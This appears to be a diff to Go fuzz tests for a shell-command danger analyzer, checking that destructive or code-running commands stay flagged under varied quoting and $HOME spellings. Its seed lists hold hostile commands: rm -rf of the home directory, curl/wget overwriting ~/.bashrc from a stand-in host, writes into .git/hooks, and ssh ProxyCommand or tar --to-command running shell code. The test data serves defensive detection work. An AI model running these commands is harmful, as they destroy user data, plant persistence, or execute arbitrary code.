@@ -43,6 +43,10 @@ func oracleWritesOrRuns(f *syntax.File) string {
 			return false
 		}
 		switch n := n.(type) {
+		case *syntax.Stmt:
+			if n.Background || n.Coprocess {
+				found = "background job"
+			}
 		case *syntax.CmdSubst:
 			found = "command substitution"
 		case *syntax.ProcSubst:
@@ -109,6 +113,10 @@ func fuzzSeeds(f *testing.F) {
 		"sed 's/a/b/w out' f", "ls >&out", "git -C x log --output=y", `"l"s`, `l\s > x`,
 		"echo {1..100000000}", "echo {a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}{o,p}{q,r}{s,t}", "x=$x$x$x; x=$x$x$x",
 		"awk '{print > \"o\"}' a", "X=rm; $X -rf /", "$'\\x72m' -rf /", "echo ${x@P}", "[[ $x -eq 1 ]]",
+		`rm -rf -- "${HOME%/}"`, `rm -rf "${XDG_CONFIG_HOME:-$HOME/.config}"`, "curl -so ~/.bashrc http://x",
+		"wget -qO- http://x", `sed -n "1w $HOME/.profile" a`, "sed 's/x/y/w .git/hooks/x' a", "find . -fprintf ~/.zshrc x",
+		"ln ~/.bashrc hl", "cp -l a b", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor git status",
+		"tar --to-command='sh -c id' -xf a", "ssh -o ProxyCommand='sh -c id' h", "cat a &", "sort -uo f a",
 	} {
 		f.Add(s)
 	}
@@ -257,6 +265,52 @@ func FuzzDangerousStaysDangerousUnderQuoting(f *testing.F) {
 		}
 		if got := dangerName(Analyze(b.String())); got != want {
 			t.Fatalf("Analyze(%q) = %q, but re-quoted as %q it gives %q", cmd, want, b.String(), got)
+		}
+	})
+}
+
+// homeForms are ways to write the home directory that bash expands alike.
+var homeForms = []string{"~", "$HOME", "${HOME}", `"$HOME"`, `"${HOME%/}"`, `"${HOME:?}"`, "${HOME%%/}", `"${HOME#}"`, `"${HOME:-/}"`, `~/`, `"$HOME"/`, `"${HOME%/}"/.`}
+
+// FuzzHomeFormsStayDangerous writes the home directory of a dangerous
+// command in every form above and checks that the class holds: an
+// equivalent spelling of $HOME must not turn rm -rf ~ into a question.
+func FuzzHomeFormsStayDangerous(f *testing.F) {
+	cmds := []string{"rm -rf H", "rm -fr -- H", "chmod -R 777 H", "mv H /tmp/x", "find H -delete", "echo x > H/.bashrc",
+		"curl -so H/.bashrc http://127.0.0.1:9/x", "sed -n '1w H/.profile' a", "find . -fprint H/.zshrc", "ln H/.bashrc hl"}
+	for i := range cmds {
+		for j := range homeForms {
+			f.Add(uint8(i), uint8(j))
+		}
+	}
+	f.Fuzz(func(t *testing.T, pick, form uint8) {
+		cmd := cmds[int(pick)%len(cmds)]
+		want := dangerName(Analyze(strings.ReplaceAll(cmd, "H", "~")))
+		if want == "" {
+			t.Fatalf("%q with ~ is not dangerous", cmd)
+		}
+		h := homeForms[int(form)%len(homeForms)]
+		if strings.Contains(cmd, "'") && strings.ContainsAny(h, `"$`) {
+			return // inside single quotes $HOME is not expanded
+		}
+		got := Analyze(strings.ReplaceAll(cmd, "H", h))
+		if dangerName(got) != want {
+			t.Fatalf("%q is %q, but with the home written %s it is %q (read-only %v)", cmd, want, h, dangerName(got), got.ReadOnly)
+		}
+	})
+}
+
+// FuzzSedScript checks the sed script scanner on any text: it never
+// panics, and a script it finds w commands in is never one it calls
+// harmless.
+func FuzzSedScript(f *testing.F) {
+	for _, s := range []string{"p", "1w out", "s/a/b/w f", "s/a/b/gw f\np", "/x/{w a\n}", "y/ab/cd/", "1e id", "$!N;P;D", "s/a/b/e", "r f", "\\cxcd"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, script string) {
+		why, writes, _ := sedScript(script)
+		if len(writes) > 0 && why == "" {
+			t.Fatalf("sedScript(%q) lists writes %q but gives no reason", script, writes)
 		}
 	})
 }
